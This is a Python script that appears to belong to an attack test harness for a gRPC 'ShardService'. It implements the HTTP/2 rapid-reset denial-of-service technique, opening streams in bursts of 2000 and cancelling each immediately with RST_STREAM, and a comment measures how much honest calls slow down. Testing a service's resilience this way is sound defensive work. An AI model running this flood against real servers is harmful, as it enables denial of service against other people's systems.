"""Calls that are reset as soon as they are opened, as fast as one connection takes them."""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import RST_STREAM, call, connected, drain, frame, header_block
from headrace.v1 import shard_service_pb2 as pb

_METHODS = ("ReadBatches", "ListDatasets", "GetDataset")
CANCEL = struct.pack(">I", 8)
_BURST = 2000
REQUEST = pb.ReadBatchesRequest(
    dataset="small", global_batch_size=100, world_size=1, epoch_start=pb.EpochStart()
).SerializeToString()


def blocks_of(target: Target) -> list[bytes]:
    """Return the headers of calls of several methods."""
    return [header_block(f"/headrace.v1.ShardService/{name}", target.metadata) for name in _METHODS]


def _strike(target: Target, begin: Begin) -> Counts:
    blocks = blocks_of(target)
    resets = connections = 0
    until = begin()
    while time.monotonic() < until:
        with suppress(OSError), connected(target.place) as connection:
            connections += 1
            resets += _reset(connection, blocks, until)
    return {"resets": resets, "connections": connections}


def _reset(connection: socket.socket, blocks: list[bytes], until: float) -> int:
    resets = 0
    streams = itertools.count(1, 2)
    while time.monotonic() < until and drain(connection):
        frames = bytearray()
        for block in itertools.islice(itertools.cycle(blocks), _BURST):
            stream = next(streams)
            frames += call(stream, block, REQUEST) + frame(RST_STREAM, 0, stream, CANCEL)
        connection.sendall(frames)
        resets += _BURST
    return resets


# For 0.2 to 0.4 s of a round an honest call waits behind those that the connection may have; then
# it keeps 0.50 to 0.86 of its rate in rounds of 3 and 4 s.
ATTACK = Attack("rapid reset", _strike)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
